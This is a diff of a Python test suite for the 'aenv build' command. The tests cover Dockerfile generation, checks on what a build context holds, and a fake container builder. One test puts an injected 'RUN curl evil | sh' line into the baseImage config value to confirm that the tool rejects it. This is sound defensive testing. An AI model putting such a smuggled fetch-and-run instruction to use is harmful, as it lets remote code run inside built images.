@@ -12,6 +12,7 @@ import gzip
 import io
 import json
 import os
+import re
 import subprocess
 import sys
 import tarfile
@@ -32,8 +33,8 @@ from aenv_ray.bundle import (
     inspect_bundle,
     lock_requirements,
 )
-from aenv_ray.cli._image import find_image_builder, write_dockerfile
-from aenv_ray.cli._scaffold import write_project
+from aenv_ray.cli._image import dockerfile_text, find_image_builder, missing_sources
+from aenv_ray.cli._scaffold import project_files, write_project
 from aenv_ray.errors import ArtifactError, ArtifactTooLargeError, ConfigurationError
 
 AENV = str(Path(sys.executable).with_name("aenv"))
@@ -479,23 +480,33 @@ def test_extract_fills_an_empty_directory_and_leaves_nothing_on_a_bad_bundle(
 # -- the Dockerfile and the image builder --------------------------------------------------------
 
 
-def test_the_dockerfile_installs_the_lock_and_serves_the_bundle(
-    project: Path, tmp_path: Path
+def run_instructions(dockerfile: str) -> list[str]:
+    """The RUN instructions of a Dockerfile, continuations joined."""
+    joined = re.sub(r"\\\n\s*", " ", dockerfile)
+    return [line for line in joined.splitlines() if line.startswith("RUN ")]
+
+
+@pytest.mark.parametrize("origin", ["generated", "aenv init"])
+def test_the_dockerfiles_install_aenv_ray_from_the_wheel_never_by_name(
+    origin: str, project: Path
 ) -> None:
     bundle = build_bundle(project)
-    path = write_dockerfile(bundle, tmp_path / "out")
-    assert path == tmp_path / "out" / "Dockerfile"
-    lines = path.read_text().splitlines()
+    text = dockerfile_text(bundle) if origin == "generated" else project_files("demo")["Dockerfile"]
+    lines = text.splitlines()
     assert "FROM python:3.11-slim" in lines
     assert "WORKDIR /env" in lines
-    install = next(line for line in lines if line.startswith("RUN pip install"))
-    assert f'"aenv-ray=={__version__}"' in install
+    [install] = run_instructions(text)
+    assert install.startswith("RUN pip install --no-cache-dir /tmp/aenv-wheels/*.whl ")
     assert "-r /env/aenv.lock" in install
-    assert 'COPY ["README.md", "config.json", "requirements.txt", "/env/"]' in lines
-    assert 'COPY ["src/", "/env/src/"]' in lines
+    assert not re.search(r"aenv[-_]ray\s*[=<>~!]|aenv[-_]ray\"|aenv[-_]ray$", install)
+    assert 'COPY ["wheels/", "/tmp/aenv-wheels/"]' in lines
+    assert 'COPY ["env/", "/env/"]' in lines
     assert "EXPOSE 8080 8081" in lines
     assert lines[-1] == 'CMD ["python", "-m", "sandbox_runtime", "/env", "--host", "0.0.0.0"]'
-    assert any(bundle.digest in line for line in lines if line.startswith("#"))
+    if origin == "generated":
+        assert any(bundle.digest in line for line in lines if line.startswith("#"))
+    else:
+        assert "aenv build" in lines[0]  # the comment says how it is built
 
 
 def with_build_config(project: Path, build_config: dict[str, object]) -> Bundle:
@@ -505,12 +516,39 @@ def with_build_config(project: Path, build_config: dict[str, object]) -> Bundle:
     return build_bundle(project)
 
 
-def test_the_base_image_comes_from_build_config(project: Path, tmp_path: Path) -> None:
+def test_the_base_image_comes_from_build_config(project: Path) -> None:
     bundle = with_build_config(project, {"baseImage": "ghcr.io/acme/py:3.12"})
-    assert "FROM ghcr.io/acme/py:3.12" in write_dockerfile(bundle, tmp_path).read_text()
+    assert "FROM ghcr.io/acme/py:3.12" in dockerfile_text(bundle).splitlines()
     bundle = with_build_config(project, {"baseImage": "python:3.12\nRUN curl evil | sh"})
     with pytest.raises(ConfigurationError, match="baseImage"):
-        write_dockerfile(bundle, tmp_path)
+        dockerfile_text(bundle)
+
+
+def test_missing_sources_reads_copy_and_add_as_a_builder_does(tmp_path: Path) -> None:
+    (tmp_path / "env" / "src").mkdir(parents=True)
+    (tmp_path / "wheels").mkdir()
+    (tmp_path / "wheels" / "a-1-py3-none-any.whl").write_bytes(b"")
+    dockerfile = "\n".join(
+        [
+            "# COPY commented.txt /x",
+            "FROM python:3.11-slim AS base",
+            'COPY ["env/", "/env/"]',
+            "copy --chown=1:1 env/src wheels/*.whl /x/",
+            "ADD --chmod=644 \\",
+            "    missing-one.txt \\",
+            "    /x/",
+            "COPY --from=base /env /y",
+            "ADD https://example.com/x.tgz /z",
+            "COPY ${ARG_FILE} /w",
+            'COPY ["requirements.txt", "wheels/*.tgz", "/app/"]',
+            "RUN cp missing-too.txt /",
+        ]
+    )
+    assert missing_sources(dockerfile, tmp_path) == [
+        (5, "missing-one.txt"),
+        (11, "requirements.txt"),
+        (11, "wheels/*.tgz"),
+    ]
 
 
 def executable(path: Path, text: str) -> Path:
@@ -535,14 +573,36 @@ def test_find_image_builder_takes_the_first_of_docker_podman_buildah(
 
 # -- aenv build ----------------------------------------------------------------------------------
 
+# A builder that builds nothing but fails as a real one would on an incomplete context: every
+# COPY/ADD source must be in the context (read independently of aenv's own check), and the
+# wheel the RUN installs must be a wheel of aenv-ray with its runtime inside.
 FAKE_BUILDER = """\
 #!{python}
-import json, os, sys
+import glob, json, os, re, sys, zipfile
 if sys.argv[1:] == ["info"]:  # aenv build asks whether the builder works here
     print({info!r}, file=sys.stderr)
     sys.exit({info_code})
-context = sys.argv[-1]
-record = {{"argv": sys.argv[1:], "context": sorted(os.listdir(context))}}
+context, dockerfile = sys.argv[-1], sys.argv[sys.argv.index("-f") + 1]
+text = re.sub(r"\\\\\\n\\s*", " ", open(dockerfile).read())
+record = {{"argv": sys.argv[1:], "context": sorted(os.listdir(context)), "installed": []}}
+for line in text.splitlines():
+    word, _, rest = line.strip().partition(" ")
+    if word.upper() in ("COPY", "ADD") and "--from=" not in rest:
+        args = json.loads(rest) if rest.startswith("[") else rest.split()
+        for source in args[:-1]:
+            if not glob.glob(os.path.join(context, source)):
+                print(f"ERROR: failed to compute cache key: {{source}}: not found")
+                sys.exit(1)
+    if word.upper() == "RUN" and "/tmp/aenv-wheels/*.whl" in rest:
+        wheels = glob.glob(os.path.join(context, "wheels", "*.whl"))
+        if len(wheels) != 1:
+            print(f"ERROR: pip install wants one wheel, the context has {{wheels}}")
+            sys.exit(1)
+        names = zipfile.ZipFile(wheels[0]).namelist()
+        if "sandbox_runtime/__main__.py" not in names:
+            print("ERROR: No module named sandbox_runtime")
+            sys.exit(1)
+        record["installed"].append(os.path.basename(wheels[0]))
 with open({record!r}, "w") as out:
     json.dump(record, out)
 print("step 1/4: pretending to build")
@@ -580,7 +640,8 @@ def test_build_says_when_the_builder_cannot_build_here(project: Path, tmp_path: 
     assert result.returncode == 0, result.stderr
     assert "docker is on PATH but cannot build images here" in result.stdout
     assert daemonless in result.stdout
-    assert (project / "dist" / "Dockerfile").is_file()
+    assert "`docker build -t demo:1.0.0 " in result.stdout  # how to build it elsewhere
+    assert (project / "dist" / "image" / "Dockerfile").is_file()
     assert not record.exists()  # no build was attempted
 
 
@@ -592,10 +653,10 @@ def test_build_writes_the_outputs_and_says_when_no_builder_exists(
     assert result.returncode == 0, result.stderr
     dist = project / "dist"
     assert sorted(p.name for p in dist.iterdir()) == [
-        "Dockerfile",
         "aenv.lock",
         "demo-1.0.0.aenv.tgz",
         "demo-1.0.0.json",
+        "image",
     ]
     data = (dist / "demo-1.0.0.aenv.tgz").read_bytes()
     bundle = build_bundle(project, exclude=[dist])
@@ -609,21 +670,35 @@ def test_build_writes_the_outputs_and_says_when_no_builder_exists(
         "files": list(bundle.files),
     }
     assert (dist / "aenv.lock").read_text() == bundle.lock
-    assert (dist / "Dockerfile").read_text() == write_dockerfile(bundle, tmp_path).read_text()
+    # the image's context: the project's Dockerfile, the bundle's files, a wheel of aenv-ray
+    context = dist / "image"
+    assert (context / "Dockerfile").read_text() == (project / "Dockerfile").read_text()
+    assert sorted(p.name for p in (context / "wheels").iterdir()) == [
+        f"aenv_ray-{__version__}-py3-none-any.whl"
+    ]
+    env = context / "env"
+    files = sorted(p.relative_to(env).as_posix() for p in env.rglob("*") if p.is_file())
+    assert files == sorted([DIGEST_MARKER, *bundle.files])
+    assert missing_sources((context / "Dockerfile").read_text(), context) == []
     out = result.stdout
     for shown in ("demo@1.0.0", bundle.digest, f"{len(data)} bytes", "demo-1.0.0.aenv.tgz"):
         assert shown in out
+    assert (
+        f"  Dockerfile  {(context / 'Dockerfile').as_posix()} (the project's ./Dockerfile)" in out
+    )
     no_builder = [line for line in out.splitlines() if line.startswith("no container builder")]
     assert no_builder == [
-        "no container builder (docker, podman, buildah) on PATH: wrote "
-        f"{(dist / 'Dockerfile').as_posix()}; build the image where one exists, or push the "
-        "bundle with `aenv push`"
+        "no container builder (docker, podman, buildah) on PATH: the image's context is "
+        f"{context.as_posix()}; build it where one exists (`docker build -t demo:1.0.0 "
+        f"{context.as_posix()}`), or push the bundle with `aenv push`"
     ]
     # the image the Kubernetes engine expects for this version: no registry named yet
     assert "  image       demo:1.0.0 has no registry: the Kubernetes engine needs " in out
-    # building again (the outputs now inside the project) gives the same bundle
+    # building again (the outputs now inside the project) gives the same bundle and wheel
+    wheel = next((context / "wheels").iterdir()).read_bytes()
     assert aenv("build", str(project), PATH=empty_path).returncode == 0
     assert (dist / "demo-1.0.0.aenv.tgz").read_bytes() == data
+    assert next((context / "wheels").iterdir()).read_bytes() == wheel
 
 
 def _imported_by(*args: str, **env: str) -> tuple[subprocess.CompletedProcess[str], set[str]]:
@@ -676,16 +751,14 @@ def test_build_runs_the_builder_on_a_context_of_the_bundle(project: Path, tmp_pa
     bin_dir = tmp_path / "bin"
     fake_builder(bin_dir, record)
     result = aenv("build", str(project), PATH=str(bin_dir))
-    assert result.returncode == 0, result.stderr
+    assert result.returncode == 0, result.stdout + result.stderr
     assert "built image demo:1.0.0" in result.stdout
     seen = json.loads(record.read_text())
     argv = seen["argv"]
-    assert argv[:4] == ["build", "-t", "demo:1.0.0", "-f"]
-    assert Path(argv[4]).name == "Dockerfile"
-    assert Path(argv[4]).parent == Path(argv[5])
-    bundle_files = ["README.md", "aenv.lock", "config.json", "requirements.txt", "src"]
-    assert seen["context"] == sorted([DIGEST_MARKER, "Dockerfile", *bundle_files])
-    assert not Path(argv[5]).exists()  # the context was temporary
+    context = project / "dist" / "image"
+    assert argv == ["build", "-t", "demo:1.0.0", "-f", str(context / "Dockerfile"), str(context)]
+    assert seen["context"] == [".aenv-context", "Dockerfile", "env", "wheels"]
+    assert seen["installed"] == [f"aenv_ray-{__version__}-py3-none-any.whl"]
 
     record.unlink()
     tagged = aenv("build", str(project), "--tag", "reg.example/me/demo:dev", PATH=str(bin_dir))
@@ -695,6 +768,79 @@ def test_build_runs_the_builder_on_a_context_of_the_bundle(project: Path, tmp_pa
     record.unlink()
     assert aenv("build", str(project), "--no-image", PATH=str(bin_dir)).returncode == 0
     assert not record.exists()
+
+
+OLD_DOCKERFILE = """\
+FROM python:3.11-slim
+WORKDIR /app
+COPY requirements.txt /app/requirements.txt
+RUN pip install --no-cache-dir "aenv-ray>=0.1.0" -r /app/requirements.txt
+COPY . /app
+"""
+
+
+def test_a_dockerfile_for_another_context_exits_2_before_any_build(
+    project: Path, tmp_path: Path
+) -> None:
+    # the Dockerfile an older `aenv init` wrote: its sources are not in the context
+    (project / "Dockerfile").write_text(OLD_DOCKERFILE)
+    record = tmp_path / "argv.json"
+    fake_builder(tmp_path / "bin", record)
+    result = aenv("build", str(project), PATH=str(tmp_path / "bin"))
+    assert result.returncode == 2, result.stdout + result.stderr
+    [line] = error_lines(result)
+    context = (project / "dist" / "image").as_posix()
+    assert line.startswith(
+        f"aenv: error: the image's Dockerfile copies what its context {context} does not hold "
+        "(line 3: `requirements.txt`); the context holds Dockerfile, env/ "
+    )
+    assert line.endswith("the bundle is written")
+    assert not record.exists()  # no build was attempted
+    assert (project / "dist" / "demo-1.0.0.aenv.tgz").is_file()
+    # the same Dockerfile with no builder on PATH: the same line, before "build it elsewhere"
+    nowhere = aenv("build", str(project), PATH=str(tmp_path / "none"))
+    assert nowhere.returncode == 2
+    assert error_lines(nowhere) == [line]
+    # --no-image builds nothing, so checks nothing
+    assert aenv("build", str(project), "--no-image", PATH=str(tmp_path / "bin")).returncode == 0
+
+
+def test_a_built_in_environment_gets_a_complete_context(tmp_path: Path) -> None:
+    builtin = Path(__file__).resolve().parent.parent / "builtin_envs" / "mini_terminal"
+    record = tmp_path / "argv.json"
+    fake_builder(tmp_path / "bin", record)
+    out = tmp_path / "mt"
+    result = aenv("build", str(builtin), "--out", str(out), PATH=str(tmp_path / "bin"))
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "built image mini-terminal:1.0.0" in result.stdout
+    # it has no Dockerfile of its own: one is written for its bundle
+    assert "(written for the bundle: the project has no ./Dockerfile)" in result.stdout
+    seen = json.loads(record.read_text())
+    assert seen["installed"] == [f"aenv_ray-{__version__}-py3-none-any.whl"]
+    dockerfile = (out / "image" / "Dockerfile").read_text()
+    assert dockerfile.startswith("# mini-terminal@1.0.0, bundle sha256:")
+    assert (out / "image" / "env" / "src" / "mini_terminal.py").is_file()
+    assert not (builtin / "dist").exists()
+
+
+def test_build_replaces_only_a_context_it_wrote(project: Path, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    (out / "image").mkdir(parents=True)
+    (out / "image" / "mine.txt").write_text("not aenv's")
+    result = aenv("build", str(project), "--out", str(out), "--no-image")
+    assert result.returncode == 2
+    assert error_lines(result) == [
+        f"aenv: error: {out / 'image'} exists and was not written by `aenv build`; remove it, "
+        "or pass another --out"
+    ]
+    assert (out / "image" / "mine.txt").read_text() == "not aenv's"
+    # an older aenv build's out/Dockerfile (it installed aenv-ray by name) is removed
+    (out / "image" / "mine.txt").unlink()
+    old = "# demo@1.0.0, bundle sha256:00\n# Written by `aenv build`; build it in a directory "
+    (out / "Dockerfile").write_text(old + "holding the bundle's files.\nFROM python:3.11-slim\n")
+    assert aenv("build", str(project), "--out", str(out), "--no-image").returncode == 0
+    assert not (out / "Dockerfile").exists()
+    assert (out / "image" / "Dockerfile").is_file()
 
 
 def test_build_tags_below_the_image_prefix(project: Path, tmp_path: Path) -> None:
